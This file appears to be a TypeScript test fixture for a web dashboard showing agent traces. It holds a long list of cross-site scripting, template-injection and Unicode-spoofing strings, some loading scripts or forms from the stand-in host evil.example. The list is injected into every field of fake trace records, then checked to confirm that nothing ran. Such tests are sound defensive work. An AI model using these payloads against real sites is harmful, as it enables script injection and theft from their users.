/** What somebody writes who wants a browser to do something: none of it may be more than text. */
import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';

export const HOSTILE: readonly string[] = [
  '<script>globalThis.__hit = 1; alert(1)</script>',
  '<img src=x onerror="globalThis.__hit = 2">',
  '<svg onload="globalThis.__hit = 3">',
  '"><script src="https://evil.example/x.js"></script>',
  "' onmouseover='globalThis.__hit = 4",
  '" autofocus onfocus="globalThis.__hit = 5',
  'javascript:globalThis.__hit=6',
  'data:text/html,<script>alert(7)</script>',
  '<iframe srcdoc="<script>parent.__hit = 8</script>">',
  '<a href="javascript:globalThis.__hit=9">press me</a>',
  '<style>* { display: none }</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action="https://evil.example"><button>Approve</button></form>',
  '</title><script>globalThis.__hit = 10</script>',
  '{{constructor.constructor("globalThis.__hit = 11")()}}',
  '${globalThis.__hit = 12}',
  '\u202egnp.exe\u202d',
  'admin\u200b\u2066\u2069\ufeff',
  '\u001b[2J\u0007\u0000 control',
  '__proto__',
  'constructor',
  '../../../../login?to=//evil.example',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  'x'.repeat(20_000),
  '\ud800 half a character',
  '<img src=x:x onerror=globalThis.__hit=13>',
  '<body onload=globalThis.__hit=14>',
  '<video><source onerror="globalThis.__hit = 15">',
  '<details open ontoggle="globalThis.__hit = 16">',
  '<math><mtext></table></math><img src onerror=globalThis.__hit=17>',
  '<svg><animate onbegin=globalThis.__hit=18 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:globalThis.__hit=19"><text y=9>here</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=globalThis.__hit=20>#x"></svg>',
  '<object data="javascript:globalThis.__hit=21">',
  '<embed src="data:text/html,<script>parent.__hit=22</script>">',
  '<template><script>globalThis.__hit = 23</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.__hit=24>">',
  '<textarea></textarea><script>globalThis.__hit = 25</script>',
  '<!--><script>globalThis.__hit = 26</script>-->',
  '<![CDATA[<script>globalThis.__hit = 27</script>]]>',
  '<scr<script>ipt>globalThis.__hit = 28</scr</script>ipt>',
  '\uff1cscript\uff1eglobalThis.__hit = 29\uff1c/script\uff1e',
  '&lt;script&gt;globalThis.__hit = 30&lt;/script&gt;',
  '&#60;img src=x onerror=&#34;globalThis.__hit=31&#34;&#62;',
  '<input type=image src=x onerror=globalThis.__hit=32>',
  '<marquee onstart=globalThis.__hit=33>',
  '<a ping="https://evil.example/p" href="https://evil.example/">see</a>',
  '<img src="https://evil.example/pixel.gif">',
  '<div style="background:url(https://evil.example/bg.png)">',
  '<div style="position:fixed;inset:0;z-index:99999">Log in again</div>',
  'java\u0000script:globalThis.__hit=34',
  '\u2028globalThis.__hit = 35\u2029',
  '\u001b]8;;https://evil.example\u0007press\u001b]8;;\u0007',
  '${alert`36`}#{alert(37)}<%= 38 %>',
  '=HYPERLINK("https://evil.example","open")',
  '[a](javascript:globalThis.__hit=39) ![b](https://evil.example/i.png)',
  'toString',
  '\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea',
];

/** What an agent says of itself below such a call: its spans, events and outcomes are as hostile as its name. */
export const hostileSaid = ({ trace, span, startedAtMs }: { trace: string; span: string; startedAtMs: number }) =>
  HOSTILE.map((text, at) => ({
    ...{ tenant: text, principal: { kind: 'agent', id: text }, trace, span: (at + 1).toString(16).padStart(16, 'b') },
    ...{ parentSpan: span, name: text, kind: 'internal', startedAtMs, durationMs: 3, receivedAtMs: startedAtMs },
    ...{ status: 'error', message: text, service: text, attributes: { [text]: text }, left: 1 },
    events: [{ name: text, atMs: startedAtMs, attributes: { [text]: text } }],
    links: [{ trace: text, span: text }],
    ...(at % 2 === 0 ? {} : { outcome: { task: text, result: 'failed', score: 0.5 } }),
  }));

/** Records of calls as a node would send them that is not ours any more: every text in them is one of those. */
export const hostileEvents = (nowMs: number) =>
  HOSTILE.map((text, at) => {
    const hex = (at + 1).toString(16).padStart(32, 'f');
    const span = (at + 1).toString(16).padStart(16, 'a');
    return {
      ...{ callId: hex, trace: hex, span, parentSpan: text, tenant: text, session: text, node: text, role: text },
      principal: { kind: 'agent', id: text, domain: text },
      target: { kind: 'agent', name: text, operation: text },
      lineage: { root: hex, depth: 0 },
      ...{ startedAtMs: nowMs - at * 1_000, durationMs: 12, status: 'failed', code: text, httpStatus: 500 },
      ...{ requestBytes: 1, replyBytes: 1, snapshotSeq: 1 },
      attributes: { message: text, 'policy.rule': [text], 'policy.version': text, [text]: text },
      steps: [
        {
          ...{ span: `${span}1`, name: 'decide', offsetMs: 1, durationMs: 1 },
          attributes: { effect: text, code: text, rules: [text], missing: [text], policyVersion: text },
        },
        {
          span: `${span}2`,
          name: text,
          offsetMs: 2,
          durationMs: 3,
          attributes: { endpoint: text, code: text, [text]: text },
        },
      ],
    };
  });

/** Nothing ran, and nothing stands in the page that we did not put there; an editor puts empty pictures beside a character that it replaces. */
export const untouched = async (page: Page): Promise<void> => {
  assert.equal(await page.evaluate('globalThis.__hit'), undefined);
  const strange =
    'iframe, img:not(.cm-widgetBuffer), base, form[action], script:not([src^="/ui/assets/"]), a[href^="javascript" i], link[href*="evil"], meta[http-equiv]';
  assert.equal(await page.locator(strange).count(), 0);
  assert.doesNotMatch((await page.locator('body').textContent()) ?? '', /[\u202a-\u202e\u2066-\u2069\u200b]/);
};
